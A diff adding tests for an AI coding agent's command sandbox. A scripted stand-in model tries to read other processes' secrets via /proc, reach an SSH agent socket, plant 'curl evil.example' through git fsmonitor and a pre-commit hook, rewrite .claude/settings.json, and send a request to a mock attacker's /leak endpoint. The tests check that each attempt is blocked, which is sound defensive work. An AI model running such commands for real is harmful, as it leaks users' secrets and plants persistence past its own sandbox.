@@ -5,7 +5,7 @@
 // command outside the sandbox.
 import { Database } from "bun:sqlite";
 import { describe, expect, test } from "bun:test";
-import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { doctor, runOmp, sha256File } from "../support/omp.ts";
 import { tempDir } from "../support/temp.ts";
@@ -41,10 +41,10 @@ function attacker() {
   return { port: server.port, received, stop: () => server.stop(true) };
 }
 
-/** Runs `commands` as the model's bash calls (one turn each) and returns their results in order. */
-async function runCommands(commands: string[], options: { home: string; repo: string; args?: string[]; env?: Record<string, string> }) {
+/** Runs `commands` as the model's bash calls (one turn each; a string is `{command}`) and returns their results in order. */
+async function runCommands(commands: (string | { command: string; background?: boolean })[], options: { home: string; repo: string; args?: string[]; env?: Record<string, string> }) {
   standin.requests.length = 0;
-  standin.setScript([...commands.map((command, i) => ({ toolCalls: [{ id: `c${i}`, name: "bash", arguments: { command } }] })), { text: "done" }]);
+  standin.setScript([...commands.map((command, i) => ({ toolCalls: [{ id: `c${i}`, name: "bash", arguments: typeof command === "string" ? { command } : command }] })), { text: "done" }]);
   const result = await runAgent(["-p", ...(options.args ?? []), "--model", provider.model, "go"], {
     home: options.home,
     cwd: options.repo,
@@ -264,5 +264,102 @@ describe("--sandbox read-only", () => {
     expect(results[0]!.text).toContain("# demo");
     expect(results[1]!.text).toContain("[omp sandbox] This command ran sandboxed (read-only: no writes at all");
     expect(existsSync(join(repo, "new-file.txt"))).toBe(false);
+  });
+});
+
+describe("what the sandbox can see and reach beyond files (issue 36.5, 39.5)", () => {
+  test("only its own processes: no other process's cmdline or environ, in its own /proc", async () => {
+    const { home, repo } = victim();
+    const mark = `parent-secret-${crypto.randomUUID()}`;
+    // A process of the user's with a key on its command line and in its environment, as a shell or IDE above omp has.
+    const other = Bun.spawn(["bash", "-c", `exec -a "sleep --api-key=${mark}" sleep 600`], { env: { ...process.env, PARENT_ONLY: mark } });
+    try {
+      const { results } = await runCommands(["ps -eo pid,args", "cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c parent-secre[t]; tr '\\0' '\\n' < /proc/$PPID/environ | grep -c parent-secre[t]"], { home, repo });
+      const [ps, scan] = results.map((r) => r.text);
+      expect(ps).toContain("ps -eo pid,args");
+      expect(ps).not.toContain(mark);
+      // The command's tree only: the namespace's init, bash and ps (no omp, no test runner).
+      expect(ps!.trim().split("\n").length).toBeLessThanOrEqual(5);
+      expect(scan).not.toContain(mark);
+      expect(scan).toMatch(/^0\n0/);
+    } finally {
+      other.kill();
+    }
+  });
+
+  test("a Unix socket outside the writable dirs is unreachable unless sandbox.allowSockets names it", async () => {
+    const { home, repo } = victim();
+    // Outside every writable dir (the test's home and temp dirs are under /tmp, which is one).
+    const dir = `/run/omp-test-${crypto.randomUUID()}`;
+    mkdirSync(dir);
+    const socket = join(dir, "agent.sock");
+    const connections: string[] = [];
+    const server = Bun.listen({ unix: socket, socket: { open: () => void connections.push("connected"), data() {} } });
+    const connect = `python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("${socket}"); print("connected")'`;
+    try {
+      const denied = await runCommands([connect, "ssh-add -l"], { home, repo, env: { SSH_AUTH_SOCK: socket } });
+      expect(denied.results[0]!.text).toContain("Connection refused");
+      expect(denied.results[0]!.text).toContain("[omp sandbox]");
+      expect(denied.results[1]!.text).not.toContain("The agent has no identities");
+      expect(connections).toEqual([]);
+      writeFileSync(join(home, ".omp", "agent", "config.yml"), `sandbox:\n  allowSockets: [${socket}]\n`);
+      const allowed = await runCommands([connect], { home, repo });
+      expect(allowed.results[0]!.text).toBe("connected");
+      expect(connections).toEqual(["connected"]);
+    } finally {
+      server.stop(true);
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+
+  test("protected workspace paths are read-only to commands while git commit and npm test work", async () => {
+    const { home, repo } = victim();
+    mkdirSync(join(repo, ".claude"));
+    writeFileSync(join(repo, ".claude", "settings.json"), "{}\n");
+    writeFileSync(join(repo, "package.json"), JSON.stringify({ name: "demo", version: "1.0.0", scripts: { test: "node -e \"console.log('tests ok')\"" } }));
+    const config = readFileSync(join(repo, ".git", "config"), "utf8");
+    const { results } = await runCommands(
+      [
+        "git config core.fsmonitor 'curl evil.example'",
+        "echo 'curl evil.example' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
+        `echo '{"hooks":{}}' > .claude/settings.json`,
+        "echo change >> README.md && git -c user.name=T -c user.email=t@example.com commit -qam wip && git log --oneline | head -1",
+        "npm test",
+      ],
+      { home, repo },
+    );
+    const [gitConfig, hook, claude, commit, npm] = results.map((r) => r.text);
+    for (const refused of [gitConfig, hook, claude]) {
+      // git writes config.lock and renames it over the read-only bind: EBUSY; the others EROFS.
+      expect(refused).toMatch(/Read-only file system|Device or resource busy/);
+      expect(refused).toContain("[omp sandbox]");
+    }
+    expect(readFileSync(join(repo, ".git", "config"), "utf8")).toBe(config);
+    expect(existsSync(join(repo, ".git", "hooks", "pre-commit"))).toBe(false);
+    expect(readFileSync(join(repo, ".claude", "settings.json"), "utf8")).toBe("{}\n");
+    expect(commit).toContain("wip");
+    expect(npm).toContain("tests ok");
+  });
+
+  test("a server one command starts in the background answers the next command; the machine's loopback stays unreachable", async () => {
+    const { home, repo } = victim();
+    const evil = attacker();
+    const port = 20000 + Math.floor(Math.random() * 20000);
+    try {
+      const { results } = await runCommands(
+        [
+          { command: `python3 -m http.server ${port} --bind 127.0.0.1`, background: true },
+          `curl -s -m 5 --retry 30 --retry-delay 1 --retry-connrefused -o /dev/null -w '%{http_code}' http://localhost:${port}/README.md`,
+          `curl -sS -m 5 http://127.0.0.1:${evil.port}/leak`,
+        ],
+        { home, repo },
+      );
+      expect(results[1]!.text).toBe("200");
+      expect(results[2]!.text).toContain("[omp sandbox]");
+      expect(results[2]!.text).toContain("private loopback");
+      expect(evil.received).toEqual([]);
+    } finally {
+      evil.stop();
+    }
   });
 });
